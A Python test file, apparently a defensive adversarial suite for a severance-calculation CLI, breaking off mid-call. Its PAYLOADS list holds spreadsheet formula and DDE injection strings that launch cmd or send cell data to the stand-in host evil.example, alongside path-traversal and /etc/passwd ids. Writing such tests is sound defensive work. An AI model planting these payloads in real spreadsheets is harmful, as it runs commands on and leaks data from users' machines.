"""Adversarial suite, part 1: random case tables, hostile cells and hostile files.

What must hold, whatever the input:
  - random tables: no crash; every input row comes out exactly once; the engine equals the
    per-row reading of the letter (tests/support/oracle.py); installments sum to the (i) total;
    every total is the sum of its components;
  - hostile cells (formula, DDE and control-character prefixes in every text column) stay text
    in every output format, and LibreOffice opening the CSV does not run them;
  - hostile files (entity expansion, zip bombs, truncation, wrong encoding or delimiter, files
    over the size limit, devices and pipes) fail with one clear line, exit status 2, within
    bounded time and memory, and leave no output and no partial file.

Each test counts what it tried; with RELIABILITY_REPORT=path set, the figures are merged into
that JSON file, which `python -m tests.support.reliability_doc` renders as docs/reliability.md.
Hypothesis runs a fixed, derandomized profile, so every CI run tries the same inputs.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import fcntl
import functools
import json
import os
import platform
import re
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support import oracle as reference
from tests.support.hostile import HOSTILE_FILES, SAMPLE, small_xlsx
from addin import cli
from addin.cases import CASE_COLUMNS, from_records
from addin.rules.engine import compute
from addin.results.output import FORMULA_PREFIXES, neutralize
from addin.results.tables import CALC_COLUMNS, calc_frame, schedule_frame

ROOT = Path(__file__).resolve().parents[2]
SEVERANCE = str(Path(sys.executable).parent / "severance")

# One fixed profile: the same inputs on every run, no example database, no time limit per example.
PROFILE = settings(max_examples=60, deadline=None, derandomize=True, database=None,
                   suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                          HealthCheck.large_base_example])

# Bounds a hostile file must be refused within (the CLI alone takes ~0.9 s and ~150 MiB).
HOSTILE_SECONDS = 30
HOSTILE_MIB = 400


# ---------------------------------------------------------------------------------------------
# Figures for docs/reliability.md (rendered from the JSON by tests/support/reliability_doc.py)

@functools.lru_cache(maxsize=1)
def run_facts() -> dict:
    """Where and with what this pytest process measured, once per process: the session (so the
    document can tell one run's figures from a merge of several), machine and versions."""
    from importlib.metadata import PackageNotFoundError, version
    versions = {}
    for name in ("hypothesis", "openpyxl", "pandas", "xlwings"):
        try:
            versions[name] = version(name)
        except PackageNotFoundError:
            versions[name] = "not installed"
    try:
        office = subprocess.run(["soffice", "--version"], capture_output=True, text=True, timeout=120)
        versions["LibreOffice"] = " ".join(office.stdout.split()[1:2]) or "unknown"
    except (OSError, subprocess.TimeoutExpired):
        versions["LibreOffice"] = "not found"
    try:
        commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=ROOT, capture_output=True,
                                text=True, timeout=30).stdout.strip() or "outside git"
        if subprocess.run(["git", "status", "--porcelain", "--", "addin", "tests"], cwd=ROOT,
                          capture_output=True, text=True, timeout=30).stdout.strip():
            commit += " with uncommitted changes"
    except (OSError, subprocess.TimeoutExpired):
        commit = "outside git"
    first = dt.datetime.now(dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    return {"session": f"{platform.node()}-{os.getpid()}-{first}", "first_recorded_utc": first,
            "commit": commit,
            "python": platform.python_version(), "machine": f"{platform.system()} {platform.machine()}",
            "cores": os.cpu_count(), "versions": versions}


def record(item: str, **figures) -> None:
    """Merge one item's measured figures into the JSON file RELIABILITY_REPORT names, if any,
    with the session that measured them and when; the run's facts go under "_run"."""
    path = os.environ.get("RELIABILITY_REPORT")
    if not path:
        return
    facts = run_facts()
    figures["session"] = facts["session"]
    figures["recorded_utc"] = dt.datetime.now(dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    with open(path, "a+", encoding="utf-8") as f:
        fcntl.flock(f, fcntl.LOCK_EX)
        f.seek(0)
        text = f.read()
        data = json.loads(text) if text.strip() else {}
        data[item] = figures
        data["_run"] = facts
        f.seek(0)
        f.truncate()
        json.dump(data, f, indent=1, sort_keys=True, default=str)
        f.write("\n")


# ---------------------------------------------------------------------------------------------
# Running the command with its time and peak memory measured

@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    seconds: float
    peak_mib: float
    timed_out: bool


# A forked child's peak memory counts its parent's (pytest's) pages from before its exec, so the
# command runs under a small launcher that forks it and reports the peak of the command alone
# (within the launcher's ~6 MiB).
LAUNCHER = r"""
import os, resource, sys
pid = os.fork()
if pid == 0:
    os.execv(sys.argv[2], sys.argv[2:])
_, status = os.waitpid(pid, 0)
with open(sys.argv[1], "w") as f:
    f.write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))
code = os.waitstatus_to_exitcode(status)
if code < 0:
    os.kill(os.getpid(), -code)
os._exit(code)
"""


def start(args, env=None, cwd=None, measure: bool = True) -> subprocess.Popen:
    """Start `severance ARGS`; measure=False runs it directly (its pid is the command's own, for
    tests that signal it), without a memory figure."""
    out, err = tempfile.TemporaryFile(), tempfile.TemporaryFile()
    command = [SEVERANCE, *map(str, args)]
    peak = None
    if measure:
        fd, peak = tempfile.mkstemp(prefix="severance-peak-")
        os.close(fd)
        command = [sys.executable, "-c", LAUNCHER, peak, *command]
    proc = subprocess.Popen(command, stdout=out, stderr=err, env=env, cwd=cwd, start_new_session=measure)
    proc.captured, proc.peak_file = (out, err), peak
    return proc


def finish(proc: subprocess.Popen, began: float, timeout: float) -> Run:
    """Wait for a started command (killing it after `timeout` seconds): exit status, output,
    seconds and peak resident memory."""
    timed_out = False
    while True:
        pid, status = os.waitpid(proc.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() - began > timeout:
            os.killpg(proc.pid, 9) if proc.peak_file else proc.kill()
            pid, status = os.waitpid(proc.pid, 0)
            timed_out = True
            break
        time.sleep(0.01)
    proc.returncode = os.waitstatus_to_exitcode(status)
    seconds = time.monotonic() - began
    outputs = []
    for stream in proc.captured:
        stream.seek(0)
        outputs.append(stream.read().decode("utf-8", "replace"))
        stream.close()
    peak_mib = float("nan")
    if proc.peak_file:
        with contextlib.suppress(ValueError):
            peak_mib = int(Path(proc.peak_file).read_text() or "x") / 1024
        os.unlink(proc.peak_file)
    return Run(proc.returncode, outputs[0], outputs[1], seconds, peak_mib, timed_out)


def run_bounded(*args, timeout: float = HOSTILE_SECONDS, env=None, cwd=None) -> Run:
    began = time.monotonic()
    return finish(start(args, env=env, cwd=cwd), began, timeout)


def run_in_process(*args) -> int:
    """The CLI's main() in this process (no start-up cost), for the many runs of the properties."""
    return cli.main([str(a) for a in args])


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


# ---------------------------------------------------------------------------------------------
# Random cases

REASONS = ("without_cause", "good_reason", "for_cause", "resignation")
FREQUENCIES = ("weekly", "biweekly", "semimonthly", "monthly")
# Days where the rules turn: the floor's July 1/2 boundary, leap days, month and year ends, the
# first and last years accepted.
BOUNDARY_DAYS = [dt.date(2024, 1, 1), dt.date(2024, 2, 29), dt.date(2023, 7, 2), dt.date(2023, 7, 3),
                 dt.date(2024, 7, 1), dt.date(2024, 7, 2), dt.date(2024, 12, 31), dt.date(2023, 12, 31),
                 dt.date(2025, 1, 31), dt.date(2024, 8, 31), dt.date(2002, 2, 8), dt.date(2002, 1, 4),
                 dt.date(1950, 1, 1), dt.date(2149, 12, 31), dt.date(2100, 2, 28), dt.date(2000, 2, 29)]
MAX_AMOUNT_CENTS = 100_000_000_000  # addin.money.MAX_CENTS: 1,000,000,000.00

dates = st.one_of(st.sampled_from(BOUNDARY_DAYS),
                  st.dates(min_value=dt.date(1950, 1, 1), max_value=dt.date(2149, 12, 31)))
cents = st.one_of(st.integers(0, 100), st.integers(0, 60_000_000), st.integers(0, MAX_AMOUNT_CENTS),
                  st.sampled_from([100_001, 1, 50, 99, 200_000_00]))


def money_text(value: int, style: int) -> str:
    """Cents as finance types them: 1234.5, 1234.50, $1,234.50, 1234 (whole amounts)."""
    d = Decimal(value) / 100
    if style == 1:
        return f"${d:,.2f}"
    if style == 2 and value % 100 == 0:
        return str(value // 100)
    if style == 3:
        return f"{d.normalize():f}" if value else "0"
    return f"{d:.2f}"


@st.composite
def valid_case(draw) -> dict:
    """A valid case as text cells, with the values the reference reads."""
    termination = draw(dates)
    reason = draw(st.sampled_from(REASONS))
    base = draw(cents.filter(lambda c: c > 0))
    declared = draw(st.one_of(st.none(), cents))
    paid = draw(st.one_of(st.just(0), cents, st.just(declared or 0)))
    benefits = draw(st.integers(0, 10_000_000))
    frequency = draw(st.sampled_from(FREQUENCIES + ("",)))
    consented = draw(st.sampled_from(("true", "false", "", "TRUE", "no", "yes")))
    style = draw(st.integers(0, 3))
    return {
        "cells": {
            "employee_name": draw(st.sampled_from(["", "Ann Lee", "=1+1", "O'Brien, Pat"])),
            "termination_date": termination.isoformat(),
            "termination_reason": reason,
            "base_salary": money_text(base, style),
            "prior_year_bonus_declared": "" if declared is None else money_text(declared, style),
            "prior_year_bonus_paid": draw(st.sampled_from([money_text(paid, style)] + ([""] if not paid else []))),
            "monthly_benefits_cost": money_text(benefits, style),
            "pay_frequency": frequency,
            "consented_to_change": consented,
        },
        "termination": termination, "reason": reason, "base": base, "declared": declared,
        "paid": paid, "benefits": benefits, "frequency": frequency or "semimonthly",
        "consented": consented.lower() in ("true", "yes"),
    }


def expected(case: dict) -> dict:
    c = lambda v: Decimal(v) / 100  # noqa: E731
    return reference.severance(case["termination"], case["reason"], c(case["base"]),
                               None if case["declared"] is None else c(case["declared"]),
                               c(case["paid"]), c(case["benefits"]), case["frequency"],
                               case["consented"])


valid_tables = st.lists(valid_case(), min_size=1, max_size=30)

# Cells a careless or hostile sheet holds: any text (no NUL, no lone surrogate), formula and DDE
# payloads, numbers in odd forms, blanks.
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "|cmd /c calc",
    "%0A=1+1",
    "'=1+1",
    "=1+1\n=2+2",
)
# Fragments of the payloads that no formula the add-in writes ever contains.
PAYLOAD_MARKERS = ("cmd", "evil.example", "DDE", "notepad", "%0A", "SUM(1+1)", "=2+2")
junk_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                    max_size=12)
junk_cell = st.one_of(junk_text, st.sampled_from(PAYLOADS),
                      st.sampled_from(["", " ", "1e999", "NaN", "-0", "(100)", "1_000", "2024-13-01",
                                       "9999-12-31", "0000-01-01", "1" * 40, "12,3x", "Infinity",
                                       "2024-07-01T00:00", "true", "maybe"]))


@st.composite
def hostile_table(draw) -> list[dict]:
    """Rows of a case table: valid cases, cases with a few cells spoiled, rows of junk, blank
    rows, repeated ids."""
    rows = []
    for k in range(draw(st.integers(0, 25))):
        kind = draw(st.sampled_from(("valid", "valid", "spoiled", "junk", "blank")))
        if kind == "blank":
            rows.append({c: draw(st.sampled_from(["", " "])) for c in CASE_COLUMNS})
            continue
        if kind == "junk":
            row = {c: draw(junk_cell) for c in CASE_COLUMNS}
        else:
            row = {"employee_id": f"E{k}", **draw(valid_case())["cells"]}
            if kind == "spoiled":
                for column in draw(st.lists(st.sampled_from(CASE_COLUMNS), min_size=1, max_size=3)):
                    row[column] = draw(junk_cell)
        if draw(st.integers(0, 9)) == 0 and rows:
            row["employee_id"] = rows[-1]["employee_id"]  # a repeated id
        rows.append({c: row.get(c, "") for c in CASE_COLUMNS})
    return rows


# ---------------------------------------------------------------------------------------------
# Writing case tables

def write_csv(rows: list[dict], path: Path, columns=CASE_COLUMNS) -> None:
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, quoting=csv.QUOTE_ALL, lineterminator="\n")
        writer.writerow(columns)
        for row in rows:
            writer.writerow([row.get(c, "") for c in columns])


def xlsx_text(value: str) -> str:
    """Text as an .xlsx can carry it: XML has no control characters, and reads CR as LF."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    return ILLEGAL_CHARACTERS_RE.sub("", value).replace("\r", "\n")


def write_xlsx(rows: list[dict], path: Path, columns=CASE_COLUMNS, typed=False) -> None:
    """Text cells stay text (a cell starting with '=' is text, as in a typed "'=1+1"); with
    typed=True, dates and amounts that read as such are written as Excel dates and numbers."""
    from openpyxl.cell import WriteOnlyCell
    book = openpyxl.Workbook(write_only=True)
    ws = book.create_sheet("Cases")
    ws.append(list(columns))

    def cell(column, value):
        if typed and column == "termination_date":
            with contextlib.suppress(ValueError):
                return dt.date.fromisoformat(value)
        if typed and column in ("base_salary", "monthly_benefits_cost") and re.fullmatch(r"[0-9]+(\.[0-9]+)?", value):
            return float(value)
        c = WriteOnlyCell(ws)
        c._value, c.data_type = xlsx_text(value), "s"
        return c
    for row in rows:
        ws.append([cell(c, row.get(c, "")) for c in columns])
    book.save(path)


def read_output(path: Path) -> pd.DataFrame:
    suffix = path.suffix
    if suffix == ".csv":
        return pd.read_csv(path, dtype=str, keep_default_na=False)
    if suffix == ".json":
        return pd.DataFrame(json.loads(path.read_text(encoding="utf-8")), dtype=object)
    if suffix == ".parquet":
        return pd.read_parquet(path)
    return pd.read_excel(path, dtype=str, engine="openpyxl").fillna("")


# ---------------------------------------------------------------------------------------------
# 1. Properties over random case tables

def table_of(cases: list[dict]) -> list[dict]:
    return [{"employee_id": f"E{k}", **case["cells"]} for k, case in enumerate(cases)]


def test_engine_equals_the_letter_read_row_by_row_on_random_tables(agreements):
    """Every figure, date and payment of every random valid case equals tests/support/oracle.py."""
    tried = {"tables": 0, "cases": 0, "payments": 0}

    @settings(PROFILE, max_examples=120)
    @given(valid_tables)
    def check(cases):
        records = table_of(cases)
        table = from_records(records, agreements)
        payouts = compute(table, agreements)
        frame, schedule = calc_frame(table, payouts), schedule_frame(table, payouts)
        assert table.valid.all(), [e for e in table.errors if e]
        by_employee = {e: g for e, g in schedule.groupby("employee_id")}
        for k, case in enumerate(cases):
            want, row = expected(case), frame.iloc[k]
            assert (row["status"] == "paid") == want["eligible"], records[k]
            if not want["eligible"]:
                assert row["status"] == "no_severance" and row["total_value"] == "0.00", records[k]
                assert f"E{k}" not in by_employee
                continue
            for name in ("salary_continuation", "prorated_bonus", "unpaid_bonus",
                         "benefits_continuation", "cash_total", "total_value"):
                assert Decimal(row[name]) == want[name], (name, records[k])
            assert row["installments"] == want["installments"], records[k]
            for name in ("lump_sum_due_date", "continuation_end_date", "benefits_end_date"):
                assert row[name] == want[name].isoformat(), (name, records[k])
            got = by_employee.get(f"E{k}")
            got_rows = [] if got is None else list(zip(got["component"], got["clause"], got["nominal_date"],
                                                       got["payment_date"], got["amount"]))
            assert got_rows == [(c, cl, n.isoformat(), p.isoformat(), f"{a:.2f}")
                                for c, cl, n, p, a in want["payments"]], records[k]
            tried["payments"] += len(got_rows)
        tried["tables"] += 1
        tried["cases"] += len(cases)

    check()
    record("engine_equals_reference", inputs_tried=tried["tables"], cases=tried["cases"],
           payments_compared=tried["payments"], failures=0)


def test_installments_sum_to_the_salary_continuation_and_totals_to_their_parts(agreements):
    """Whatever the amounts (one cent to a billion) and calendar: (i) is paid in installments
    that are equal but for the last, never negative, summing to (i) exactly; cash_total is
    (i)+(ii)+(iii), total_value adds (iv), and the schedule pays exactly cash_total."""
    tried = {"tables": 0, "cases": 0, "installments": 0}

    @settings(PROFILE, max_examples=120)
    @given(valid_tables)
    def check(cases):
        table = from_records(table_of(cases), agreements)
        payouts = compute(table, agreements)
        schedule = schedule_frame(table, payouts)
        cents = lambda s: s.map(lambda a: int(Decimal(a) * 100))  # noqa: E731
        schedule = schedule.assign(cents=cents(schedule["amount"]) if len(schedule) else [])
        for k in range(len(table)):
            i, ii, iii, iv = (int(getattr(payouts, n)[k]) for n in (
                "salary_continuation", "prorated_bonus", "unpaid_bonus", "benefits_continuation"))
            assert payouts.cash_total[k] == i + ii + iii
            assert payouts.total_value[k] == i + ii + iii + iv
            mine = schedule[schedule["employee_id"] == f"E{k}"]
            assert mine["cents"].sum() == payouts.cash_total[k]
            salary = mine[mine["clause"] == "(i)"]["cents"].tolist()
            n = int(payouts.installments[k])
            assert len(salary) == n
            if not payouts.eligible[k]:
                assert i == ii == iii == iv == 0 and n == 0
                continue
            if n:
                assert sum(salary) == i and min(salary) >= 0
                assert set(salary[:-1]) <= {int(payouts.installment_amount[k])}
                assert salary[-1] == payouts.last_installment_amount[k]
                # The last installment absorbs the rounding: less than one cent per installment.
                assert abs(salary[-1] - payouts.installment_amount[k]) <= n
            payment_days = pd.to_datetime(mine["payment_date"])
            assert (payment_days.dt.day_of_week < 5).all()
            assert (mine["payment_date"] <= mine["nominal_date"]).all()
            tried["installments"] += n
        tried["tables"] += 1
        tried["cases"] += len(cases)

    check()
    record("installments_and_totals", inputs_tried=tried["tables"], cases=tried["cases"],
           installments_checked=tried["installments"], failures=0)


def expected_source_rows(rows: list[dict], xlsx: bool) -> dict[int, int]:
    """The rows that are cases (all but the wholly blank ones), each numbered as the file does
    -> its position in `rows`: the worksheet row, or the CSV line its record starts on (the
    header is row/line 1; a line break inside a quoted cell is a line of the file)."""
    clean = xlsx_text if xlsx else (lambda v: v)
    numbers, line = {}, 2
    for k, row in enumerate(rows):
        if any(clean(v).strip() for v in row.values()):
            numbers[line] = k
        line += 1 if xlsx else 1 + sum(v.count("\n") for v in row.values())
    return numbers


def test_every_input_row_comes_out_exactly_once_through_the_command(tmp_path_factory):
    """Random tables of valid, spoiled and junk rows, as CSV and as .xlsx: `severance calc`
    never fails, and writes one row per input row, in input order, each paid, not paid or
    rejected with its row number and reasons."""
    tried = {"tables": 0, "rows": 0, "rejected": 0}
    folder = tmp_path_factory.mktemp("once")

    @settings(PROFILE, max_examples=50)
    @given(hostile_table(), st.sampled_from([(".csv", ".csv"), (".xlsx", ".json"), (".csv", ".xlsx"),
                                             ("typed.xlsx", ".parquet"), (".csv", ".json")]))
    def check(rows, formats):
        source, target = formats
        with tempfile.TemporaryDirectory(dir=folder) as scratch:
            cases, out = Path(scratch) / f"cases{source}", Path(scratch) / f"out{target}"
            if source == ".csv":
                write_csv(rows, cases)
            else:
                write_xlsx(rows, cases, typed=source.startswith("typed"))
            status = run_in_process("calc", cases, "-o", out)
            frame = read_output(out)
            assert leftovers(Path(scratch)) == sorted([cases.name, out.name])
        want = expected_source_rows(rows, xlsx=source.endswith(".xlsx"))
        if target == ".json" and not want:
            assert frame.empty and status == 0  # JSON records: an empty list carries no column names
            return
        assert list(frame.columns) == list(CALC_COLUMNS)
        assert status == (1 if (frame["status"] == "rejected").any() else 0)  # 1: rows rejected
        assert [int(r) for r in frame["source_row"]] == list(want)
        assert set(frame["status"]) <= {"paid", "no_severance", "rejected"}
        for _, row in frame.iterrows():
            rejected = row["status"] == "rejected"
            assert str(row["reason"]).startswith(f"row {int(row['source_row'])}, ") == rejected
            if not rejected:
                parts = sum(Decimal(str(row[n])) for n in ("salary_continuation", "prorated_bonus",
                                                            "unpaid_bonus"))
                assert Decimal(str(row["cash_total"])) == parts
        if source == ".csv" and target in (".csv", ".json"):
            ids = [rows[k]["employee_id"].strip() for k in want.values()]
            got = [str(v) for v in frame["employee_id"]]
            if target == ".csv":
                ids = [("'" + v) if v.startswith(FORMULA_PREFIXES) else v for v in ids]
            assert got == ids
        tried["tables"] += 1
        tried["rows"] += len(want)
        tried["rejected"] += int((frame["status"] == "rejected").sum())

    check()
    record("every_row_once", inputs_tried=tried["tables"], rows=tried["rows"],
           rejected_rows_accounted=tried["rejected"], rows_lost=0, failures=0)


# ---------------------------------------------------------------------------------------------
# 2. Hostile cells

GOOD = {"termination_date": "2024-07-01", "termination_reason": "without_cause",
        "base_salary": "240000", "prior_year_bonus_declared": "100000",
        "prior_year_bonus_paid": "25000", "monthly_benefits_cost": "1500",
        "employee_name": "Ann Lee", "department": "Finance"}
TEXT_COLUMNS = CASE_COLUMNS + ("department",)
# Ids that try to leave a folder or name a device (the report's per-employee statements).
PATH_IDS = ("../../escape", "/etc/passwd", "..", ".", "CON", "nul.txt", "a\\..\\b", "~root", "x" * 300)


def hostile_cell_rows() -> list[dict]:
    rows = []
    for payload in PAYLOADS:
        for column in TEXT_COLUMNS:
            rows.append({**GOOD, "employee_id": f"H{len(rows) + 1}", column: payload})
    # Valid, paid cases whose id and name are payloads: they reach every output, the schedule
    # and the per-employee statements too.
    for n, payload in enumerate(PAYLOADS):
        rows.append({**GOOD, "employee_id": f"{payload}#{n}", "employee_name": payload})
    for path_id in PATH_IDS:
        rows.append({**GOOD, "employee_id": path_id})
    return rows


def csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def xlsx_cells(path: Path):
    book = openpyxl.load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell
    book.close()


def formula_parts(path: Path) -> list[str]:
    """Every <f> element of every sheet, read from the XML itself."""
    with zipfile.ZipFile(path) as z:
        return [m for name in z.namelist() if name.startswith("xl/worksheets/")
                for m in re.findall(r"<f[ >].*?</f>|<f/>", z.read(name).decode("utf-8"), re.S)]


def test_formula_injection_stays_text_in_every_output_format(tmp_path):
    """Each payload in each text column, read from CSV, .xlsx (text cells and live formula
    cells) and Parquet, written by calc and schedule as CSV, JSON, .xlsx and Parquet and by
    report (with per-employee statements): no output cell is a formula made from user text,
    CSV cells never start with a formula character, and the text itself is kept."""
    rows = hostile_cell_rows()
    payload_ids = [f"{p}#{n}".strip() for n, p in enumerate(PAYLOADS)]  # as read: cells are trimmed
    inputs = {"csv": tmp_path / "cases.csv", "xlsx": tmp_path / "cases.xlsx",
              "parquet": tmp_path / "cases.parquet", "formulas": tmp_path / "formula-cells.xlsx"}
    write_csv(rows, inputs["csv"], TEXT_COLUMNS)
    write_xlsx(rows, inputs["xlsx"], TEXT_COLUMNS)
    pd.DataFrame([{c: r.get(c, "") for c in TEXT_COLUMNS} for r in rows]).to_parquet(inputs["parquet"])
    book = openpyxl.Workbook()  # an input whose cells are live formulas, as a user's sheet may be
    ws = book.active
    ws.append(list(TEXT_COLUMNS))
    for n, payload in enumerate(p for p in PAYLOADS if p.startswith("=")):
        ws.append([f"F{n}", payload, *[GOOD.get(c, "") for c in TEXT_COLUMNS[2:-1]], payload])
    book.save(inputs["formulas"])

    failures, cells_checked, outputs = [], 0, []
    outside = leftovers(tmp_path.parent)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    for kind, source in inputs.items():
        for command in ("calc", "schedule") if kind == "csv" else ("calc",):
            for suffix in (".csv", ".json", ".xlsx", ".parquet"):
                out = out_dir / f"{kind}-{command}{suffix}"
                # Exit 1: payloads in the case columns are rejected rows (the formula cells'
                # rows are all valid).
                assert run_in_process(command, source, "-o", out) == (kind != "formulas"), out
                outputs.append(out)
        report = out_dir / f"{kind}-report.xlsx"
        statements = ("--per-employee", out_dir / "statements") if kind == "csv" else ()
        # The report's exit status is calc's: 1 exactly when a row is rejected.
        assert run_in_process("report", source, "-o", report, *statements) == (kind != "formulas")
        outputs.append(report)
    statement_files = sorted((out_dir / "statements").iterdir())
    outputs.extend(statement_files)

    seen_ids = set()
    for out in outputs:
        if out.suffix == ".csv":
            for cell in csv_cells(out):
                cells_checked += 1
                if cell.startswith(FORMULA_PREFIXES):
                    failures.append((out.name, cell))
                seen_ids.add(("csv", cell))
        elif out.suffix == ".json":
            for record_ in json.loads(out.read_text(encoding="utf-8")):
                for value in record_.values():
                    cells_checked += 1
                    if value is not None and not isinstance(value, (str, int, float)):
                        failures.append((out.name, value))
                    seen_ids.add(("json", value))
        elif out.suffix == ".parquet":
            frame = pd.read_parquet(out)
            for column in ("employee_id", "employee_name", "reason", "warnings", "agreement"):
                if column in frame:
                    cells_checked += len(frame)
                    if not all(isinstance(v, str) for v in frame[column]):
                        failures.append((out.name, column))
                    seen_ids.update(("parquet", v) for v in frame[column])
        else:
            # A report's figures are live formulas the add-in writes; calc and schedule
            # workbooks hold values only. No formula may carry user text.
            live = out.name.endswith("-report.xlsx") or out.parent.name == "statements"
            for sheet, cell in xlsx_cells(out):
                cells_checked += 1
                if cell.data_type == "f":
                    if not live or any(m in str(cell.value) for m in PAYLOAD_MARKERS):
                        failures.append((out.name, sheet, cell.coordinate, cell.value))
                elif isinstance(cell.value, str):
                    seen_ids.add(("xlsx", cell.value))
            for part in formula_parts(out):
                if any(m in part for m in PAYLOAD_MARKERS):
                    failures.append((out.name, part))
    # Nothing is lost: every payload id is in every format, as text (in CSV behind the
    # apostrophe that keeps a spreadsheet from running it).
    for fmt in ("csv", "json", "parquet", "xlsx"):
        for payload_id in payload_ids:
            if (fmt, neutralize(payload_id) if fmt == "csv" else payload_id) not in seen_ids:
                failures.append(("missing", fmt, payload_id))
    # Statements stay inside their folder, one per paid case, under safe names.
    paid = int((read_output(out_dir / "csv-calc.csv")["status"] == "paid").sum())
    names = [p.name for p in statement_files]
    if len(names) != paid or not all(re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._-]*\.xlsx", n) for n in names):
        failures.append(("statement names", paid, names))
    assert leftovers(tmp_path) == sorted([*[p.name for p in inputs.values()], "out"])
    assert leftovers(tmp_path.parent) == outside
    assert failures == []
    record("hostile_cells", inputs_tried=len(PAYLOADS) * len(TEXT_COLUMNS) + len(PAYLOADS) + len(PATH_IDS),
           payloads=len(PAYLOADS), text_columns=len(TEXT_COLUMNS), input_formats=len(inputs),
           output_files=len(outputs), cells_checked=cells_checked, failures=len(failures))


def test_libreoffice_opening_the_csv_output_runs_no_formula(tmp_path):
    """LibreOffice runs '=' cells of a CSV it opens (the control shows it); in the neutralized
    CSV `severance calc` writes, every payload opens as text."""
    from tests.support.recalc import SOFFICE
    assert SOFFICE, "LibreOffice (soffice) is required: `make soffice`"
    rows = hostile_cell_rows()
    cases = tmp_path / "cases.csv"
    write_csv(rows, cases, TEXT_COLUMNS)
    out = tmp_path / "payouts.csv"
    assert run_in_process("calc", cases, "-o", out) == 1  # payloads in case columns: rejected rows
    control = tmp_path / "control.csv"
    control.write_text("employee_id,employee_name\n=1+1,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\n",
                       encoding="utf-8")
    converted = tmp_path / "converted"
    profile = tempfile.mkdtemp(prefix="lo-profile-")
    try:
        subprocess.run([SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                        "--convert-to", "xlsx", "--outdir", str(converted), str(out), str(control)],
                       check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": profile})
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    control_formulas = [c for _, c in xlsx_cells(converted / "control.xlsx") if c.data_type == "f"]
    assert len(control_formulas) == 2, "LibreOffice should run the control's formulas"
    cells = list(xlsx_cells(converted / "payouts.xlsx"))
    formulas = [(c.coordinate, c.value) for _, c in cells if c.data_type == "f"]
    texts = {c.value for _, c in cells if isinstance(c.value, str)}
    missing = [p for n, p in enumerate(PAYLOADS)
               if f"{p}#{n}".strip().startswith(FORMULA_PREFIXES) and "'" + f"{p}#{n}".strip() not in texts]
    assert formulas == [] and missing == []
    record("hostile_cells_libreoffice_csv", inputs_tried=len(rows), cells_opened=len(cells),
           formulas_run=len(formulas), control_formulas_run=len(control_formulas), failures=0)


# ---------------------------------------------------------------------------------------------
# 3. Hostile files

@pytest.mark.parametrize("name", list(HOSTILE_FILES))
def test_hostile_file_fails_clearly_in_bounded_time_and_memory(tmp_path, name):
    """calc and report on a hostile file: exit 2, one line naming the file and the cause, no
    traceback, within HOSTILE_SECONDS and HOSTILE_MIB, and nothing left in the output folder
    (the previous output, when there is one, untouched)."""
    builder, message = HOSTILE_FILES[name]
    source_dir, out_dir = tmp_path / "in", tmp_path / "out"
    source_dir.mkdir()
    out_dir.mkdir()
    began = time.monotonic()
    path = builder(source_dir)
    build_seconds = time.monotonic() - began
    previous = out_dir / "previous.xlsx"
    small_xlsx(previous)
    before = previous.read_bytes()
    began = time.monotonic()
    # calc onto an existing workbook (which must survive) and report to a new one (which must
    # not appear), at once.
    procs = [start(["calc", path, "-o", out_dir / "previous.xlsx"]),
             start(["report", path, "-o", out_dir / "report.xlsx"])]
    runs = [finish(p, began, HOSTILE_SECONDS) for p in procs]
    problems = []
    for run in runs:
        lines = run.stderr.strip().splitlines()
        if run.timed_out or run.returncode != 2:
            problems.append(f"exit {run.returncode}, timed out: {run.timed_out}")
        if len(lines) != 1 or not lines[0].startswith("severance: error: ") or str(path) not in lines[0]:
            problems.append(f"not one clear line: {run.stderr!r}")
        elif message not in lines[0]:
            problems.append(f"message lacks {message!r}: {lines[0]}")
        if "Traceback" in run.stderr or "unexpected failure" in run.stderr:
            problems.append(run.stderr)
        if not run.peak_mib <= HOSTILE_MIB:
            problems.append(f"peak memory {run.peak_mib:.0f} MiB")
    if leftovers(out_dir) != ["previous.xlsx"] or previous.read_bytes() != before:
        problems.append(f"output folder: {leftovers(out_dir)}")
    if "etc/passwd" in name and any("root:" in r.stderr + r.stdout for r in runs):
        problems.append("the external entity was read")
    record(f"hostile_file: {name}", commands=len(runs), failures=len(problems),
           input_bytes=path.stat().st_size if path.is_file() and not path.is_symlink() else 0,
           build_seconds=round(build_seconds, 2), max_seconds=round(max(r.seconds for r in runs), 2),
           max_peak_mib=round(max(r.peak_mib for r in runs)), bytes_lost=0 if previous.read_bytes() == before else len(before),
